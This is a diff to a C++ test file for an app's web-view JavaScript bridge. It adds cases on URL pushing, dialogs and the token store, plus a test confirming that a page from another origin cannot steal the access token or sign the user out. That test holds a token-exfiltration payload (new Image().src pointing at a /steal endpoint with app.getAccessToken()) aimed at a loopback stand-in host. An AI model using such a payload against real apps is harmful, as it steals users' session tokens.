@@ -5,7 +5,9 @@
 #include "app/tools/SaveService.h"
 #include "platform/uikit/UIActionSheet.h"
 #include "platform/uikit/UIAlertView.h"
+#include "platform/foundation/Console.h"
 #include "refresh/PRRefreshHeader.h"
+#include "testsupport/LoopbackServer.h"
 
 namespace {
 
@@ -50,6 +52,12 @@ TEST_F(WebScreens, BridgeCallsFromThePageOpenScreensOnTheMainQueue) {
         {"app.push('', 'quorvane://open?mode')", 1, "", false, false, "", false},
         {"app.push('', 'quorvane://open?mode=9')", 1, "", false, false, "", false},
         {"app.push('Files', 'ftp://example.com/')", 1, "", false, false, "", false},
+        {"openDialogs()", 2, "", true, true, "dialogs.html", false},
+        {"app.pushWithUrl('')", 1, "", false, false, "", false},
+        {"app.pushWithUrl(null)", 1, "", false, false, "", false},
+        {"app.pushWithUrl('ftp://example.com/')", 1, "", false, false, "", false},
+        {"app.pushWithUrl('http://')", 1, "", false, false, "", false},
+        {"app.pushWithUrl('detail.html')", 1, "", false, false, "", false},
     };
     showMainScreen();
     auto main = top();
@@ -167,8 +175,8 @@ TEST_F(WebScreens, StoredValuesAndTheTokenServeOnlyTheBackEndsOwnPages) {
         {false, "app.setWebCash('greeting', 'hello'); app.getWebCash('greeting')", "hello", "greeting",
          "hello"},
         {false, "app.setWebCash('a.b', '1'); app.getWebCash('a.b')", "1", "a.b", "1"},
-        {false, "app.setWebCash('AccessToken', 'tok'); String(app.getAccessToken())", "tok", "AccessToken",
-         "tok"},
+        {false, "app.setWebCash('AccessToken', 'tok')", "", "AccessToken", "tok"},
+        {false, "String(app.getAccessToken())", "tok", "AccessToken", "tok"},
         {true, "String(app.getAccessToken())", "null", "AccessToken", "tok"},
         {true, "app.setWebCash('AccessToken', 'evil'); app.getWebCash('AccessToken')", "", "AccessToken",
          "tok"},
@@ -184,6 +192,7 @@ TEST_F(WebScreens, StoredValuesAndTheTokenServeOnlyTheBackEndsOwnPages) {
         SCOPED_TRACE(c.script);
         auto screen = c.foreign ? foreign : main;
         EXPECT_EQ(screen->webView()->stringByEvaluatingJavaScriptFromString(c.script), c.result);
+        settle();
         if (c.key) {
             EXPECT_EQ(storedString(c.key), c.stored ? std::optional<std::string>(c.stored) : std::nullopt);
         }
@@ -206,6 +215,8 @@ TEST_F(WebScreens, ADialogClickRunsTheLatestCallbackInThePage) {
          {1, 0},
          "second 0"},
         {"app.alert('T', 'm', null, 'Yes', 'choose(\"nocancel\", %@)')", {"Yes"}, {0}, "nocancel 0"},
+        {"app.alert('T', 'm', null, null, 'choose(\"bare\", %@)')", {"确定"}, {0}, "bare 0"},
+        {"app.actionSheet('T', null, null, null, 'choose(\"bare sheet\", %@)')", {"确定"}, {0}, "bare sheet 0"},
     };
     showMainScreen();
     run("openDialogs()");
@@ -237,50 +248,77 @@ TEST_F(WebScreens, SarnquilLinksAreNeverLoaded) {
     };
     showMainScreen();
     auto main = top();
-    const std::string page = main->webView()->javaScriptContext()->pageURL();
+    const std::string page = main->webView()->documentURL();
     for (const auto& c : cases) {
         SCOPED_TRACE(c.link);
         AppSandbox::clearDefaults();
-        ASSERT_TRUE(main->webView()->activateLink(c.link));
+        run(std::string("location.href = '") + c.link + "'");
+        ASSERT_TRUE(NSRunLoop::main().runUntil([&] { return main->urlStr() == c.link; }, kPageWait));
         settle();
-        EXPECT_EQ(main->urlStr(), c.link);
         EXPECT_EQ(navigation_->viewControllers().size(), c.depth);
         EXPECT_EQ(storedString(kSaveServiceAccessTokenKey),
                   c.signsOut ? std::optional<std::string>("") : std::nullopt);
         EXPECT_FALSE(main->webView()->isLoading());
-        EXPECT_EQ(main->webView()->javaScriptContext()->pageURL(), page);
+        EXPECT_EQ(main->webView()->documentURL(), page);
         navigation_->popToRootViewControllerAnimated(Animated::No);
         settle();
     }
 }
 
-// Fetches that never answer: the page stays loading until its screen goes.
-struct StalledLoader : UIWebViewLoader {
-    int cancels = 0;
-    std::function<void()> load(const NSURLRequest&, Completion) override {
-        return [this] { ++cancels; };
+// A page of another origin may neither read the token through a dialog's answer nor sign the user out.
+TEST_F(WebScreens, AForeignPageCannotStealTheTokenOrSignOut) {
+    LoopbackServer foreign;
+    LoopbackReply evil = LoopbackReply::text("<title>Evil</title>");
+    evil.contentType = "text/html";
+    foreign.reply("/evil", evil);
+    SaveService::setObject(Value("secret-token"), kSaveServiceAccessTokenKey);
+    showMainScreen();
+    run("app.pushWithUrl('" + foreign.url("/evil") + "')");
+    auto screen = top();
+    ASSERT_TRUE(waitForPage(screen));
+    Console::Capture capture;
+    for (const char* signOut : {"app.toLogin()", "location.href = 'sarnquil://login'"}) {
+        run(signOut);
+        settle();
+        EXPECT_EQ(navigation_->viewControllers().size(), 2u) << signOut;
     }
-};
+    EXPECT_TRUE(capture.contains("toLogin refused"));
+
+    // The answer to the foreign page's dialog comes once the screen shows the back end's page.
+    run("app.alert('Win', 'a prize', 'No', 'Yes', \"new Image().src = '" + foreign.url("/steal") +
+        "?t=' + app.getAccessToken()\")");
+    ASSERT_TRUE(UIDialogs::visible());
+    run("location.href = '" + pageURL("storage.html") + "'");
+    ASSERT_TRUE(NSRunLoop::main().runUntil(
+        [&] { return screen->webView()->documentURL() == pageURL("storage.html") && !screen->webView()->isLoading(); },
+        kPageWait));
+    ASSERT_TRUE(UIDialogs::press(1));
+    settle();
+    EXPECT_EQ(run("String(app.getAccessToken())"), "secret-token");  // the back end's page reads it
+    NSRunLoop::main().runUntil([] { return false; }, 0.5);
+    EXPECT_EQ(foreign.hits("/steal"), 0u);
+    EXPECT_TRUE(capture.contains("dropped"));
+    EXPECT_EQ(storedString(kSaveServiceAccessTokenKey), "secret-token");
+}
 
 TEST_F(WebScreens, AScreenClosedWhileItsPageLoadsTakesItsLoadOffTheHUD) {
-    auto loader = std::make_shared<StalledLoader>();
+    LoopbackServer stalled;
+    LoopbackReply never = LoopbackReply::text("");
+    never.delay = 60;
+    stalled.reply("/never", never);
     auto hud = THProgressHUD::shareInstancetype();
     std::vector<std::shared_ptr<UrlMainViewController>> screens;
     for (int i = 0; i < 3; ++i) {
         auto screen = UrlMainViewController::create();
-        screen->setUrlString(pageURL("detail.html"));
+        screen->setUrlString(stalled.url("/never"));
         screen->loadViewIfNeeded();
-        screen->webView()->setLoader(loader);
         screens.push_back(screen);
     }
-    turn();
-    EXPECT_EQ(hud->loadingCount(), 3);
+    ASSERT_TRUE(NSRunLoop::main().runUntil([&] { return hud->loadingCount() == 3; }, kPageWait));
     for (int left = 2; left >= 0; --left) {
         screens.pop_back();
         EXPECT_EQ(hud->loadingCount(), left);
     }
-    EXPECT_EQ(loader->cancels, 3);
-    EXPECT_EQ(server_->hits("/vqd_web/detail.html"), 0u);
 }
 
 }  // namespace
